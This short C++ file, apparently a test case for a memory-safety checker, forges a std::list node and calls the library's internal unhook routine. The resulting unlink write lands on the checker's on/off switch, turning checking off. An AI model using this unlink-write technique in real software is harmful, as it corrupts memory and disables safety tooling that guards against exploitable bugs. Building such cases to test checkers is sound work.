// Removes a forged node from a list, so that the library writes to the node's neighbor, the checker's on/off
// switch.
#include <list>

#include "../parts/writes_out_of_bounds.cu"
#include "../parts/switch_of_the_checker.cu"

using Node = std::__detail::_List_node_base;

// What is written is the address of `sink`, whose highest byte is 0 like that of any address.
void blind() {
  static Node sink, forged;
  forged._M_next = reinterpret_cast<Node*>(switch_of_the_checker() - 7 - sizeof(Node*));
  forged._M_prev = &sink;
  forged._M_unhook();  // forged.next->prev = forged.prev
}
